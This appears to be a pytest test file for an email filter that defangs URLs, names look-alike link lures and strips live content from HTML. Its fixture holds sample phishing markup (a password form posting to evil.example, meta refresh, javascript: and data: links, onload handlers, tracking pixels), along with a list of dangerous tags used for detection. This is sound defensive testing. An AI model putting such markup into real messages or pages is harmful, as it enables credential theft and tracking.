@@ -1,0 +1,132 @@
+"""Links made harmless: text URLs defanged, HTML sanitised with every live link gone (checked
+by parsing the output, not by searching strings), and the look-alike lures named."""
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from milters.neutralize.html import html_to_text, inert_html
+from milters.neutralize.links import LinkReport, defang, defang_text, url_warnings
+
+
+@pytest.mark.parametrize("url, expected", [
+    ("https://example.com/path", "hxxps://example[.]com/path"),
+    ("http://a.b.example:8080/x.y?q=1.2", "hxxp://a[.]b[.]example:8080/x.y?q=1.2"),
+    ("ftp://files.example/a", "fxp://files[.]example/a"),
+    ("https://bank.example@evil.example/", "hxxps://bank[.]example[@]evil[.]example/"),
+    ("www.example.co.jp", "www[.]example[.]co[.]jp"),
+    ("https://example.com?next=a.b", "hxxps://example[.]com?next=a.b"),
+])
+def test_defang(url: str, expected: str) -> None:
+    assert defang(url) == expected
+
+
+def test_text_urls_are_defanged_and_sentence_punctuation_kept() -> None:
+    report = LinkReport()
+    text = ("Log in at https://www.example.com/a?b=c. Or (see http://x.example/y) "
+            "and www.foo.example, 詳細は https://例え.jp/ページ。")
+    out = defang_text(text, report)
+    assert out == ("Log in at hxxps://www[.]example[.]com/a?b=c. Or (see hxxp://x[.]example/y) "
+                   "and www[.]foo[.]example, 詳細は hxxps://例え[.]jp/ページ。")
+    assert report.defanged == 4
+
+
+def test_text_already_defanged_is_left_alone() -> None:
+    report = LinkReport()
+    assert defang_text("hxxps://evil[.]example/x", report) == "hxxps://evil[.]example/x"
+    assert report.defanged == 0
+
+
+@pytest.mark.parametrize("url, shown, expected", [
+    ("https://bank.example@evil.example/login", "", "looks like bank.example but leads to "
+                                                    "evil.example"),
+    ("https://xn--pple-43d.com/", "", "punycode: xn--pple-43d.com (shows as аpple.com)"),
+    ("https://аpple.com/", "", "non-Latin letters: аpple.com (really xn--pple-43d.com)"),
+    ("https://evil.example/login", "https://bank.example/login",
+     "text shows bank.example but leads to evil.example"),
+])
+def test_lures_are_named(url: str, shown: str, expected: str) -> None:
+    assert any(expected in warning for warning in url_warnings(url, shown))
+
+
+def test_same_site_text_is_not_a_lure() -> None:
+    assert url_warnings("https://login.bank.example/x", "www.bank.example") == []
+    assert url_warnings("https://www.example.co.jp/", "example.co.jp") == []
+
+
+class _Live(HTMLParser):
+    """Everything in parsed HTML that could run or fetch."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self.tags: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        if tag in ("script", "style", "iframe", "form", "input", "object", "embed", "base",
+                   "link", "frame", "svg"):
+            self.found.append(f"<{tag}>")
+        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
+            self.found.append("<meta http-equiv>")
+        for name, value in attrs:
+            value = (value or "").strip().lower()
+            if name.startswith("on"):
+                self.found.append(f"{tag}@{name}")
+            if name in ("href", "action", "formaction", "background", "poster", "srcset"):
+                self.found.append(f"{tag}@{name}={value}")
+            if name == "src" and not value.startswith("cid:"):
+                self.found.append(f"{tag}@src={value}")
+            if name == "style" and ("url(" in value or "import" in value):
+                self.found.append(f"{tag}@style={value}")
+
+
+TRICKS = """<html><head><title>t</title>
+<style>body{background:url(https://track.example/bg.png)}</style>
+<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
+<link rel="stylesheet" href="https://evil.example/x.css"></head>
+<body onload="steal()" background="https://track.example/b.png">
+<p style="color:red;background-image:url('https://track.example/p.gif')">Dear customer,</p>
+<a href="https://evil.example/login">https://bank.example/login</a>
+<a href="https://xn--pple-43d.com/">Apple ID</a>
+<a href="https://bank.example@evil.example/">Your bank</a>
+<a href="javascript:alert(1)">click</a> <a href="data:text/html,<script>x</script>">d</a>
+<form action="https://evil.example/post"><input name="password"><button>Go</button></form>
+<script>document.write('x')</script><iframe src="https://evil.example/f"></iframe>
+<object data="https://evil.example/o.swf"></object><svg onload="x()"><a href="https://e.example/s">s</a></svg>
+<img src="https://track.example/open.gif" onerror="x()"><img src="cid:logo@x" alt="logo">
+<video poster="https://track.example/v.png"></video>
+<div style="behavior:url(x.htc)">styled</div><!-- <a href="https://hidden.example"> -->
+</body></html>"""
+
+
+def test_html_tricks_leave_no_live_link_and_the_lures_are_warned_about() -> None:
+    report = LinkReport()
+    out = inert_html(TRICKS, report, banner="Links were disabled")
+    parser = _Live()
+    parser.feed(out)
+    assert parser.found == []
+    assert "img" in parser.tags  # the inline cid: picture stays
+    assert "[hxxps://evil[.]example/login]" in out
+    assert "Dear customer" in out and "Links were disabled" in out
+    assert any("shows bank.example but leads to evil.example" in w for w in report.warnings)
+    assert any("punycode" in w for w in report.warnings)
+    assert any("looks like bank.example" in w for w in report.warnings)
+    assert "https://" not in out.replace("hxxps://", "")
+
+
+def test_html_to_text_shows_each_link_defanged_after_its_text() -> None:
+    report = LinkReport()
+    text = html_to_text(TRICKS, report)
+    assert "<" not in text and "document.write" not in text and "background" not in text
+    assert "https://bank.example/login" not in text
+    assert "hxxps://bank[.]example/login [hxxps://evil[.]example/login]" in text
+    assert any("punycode" in w for w in report.warnings)
+
+
+def test_links_can_be_kept_while_the_html_is_still_sanitised() -> None:
+    report = LinkReport()
+    out = inert_html('<a href="https://ok.example/x">ok</a><script>x</script>', report,
+                     defang_links=False)
+    assert "<script" not in out and "[https://ok.example/x]" in out and "<a " not in out
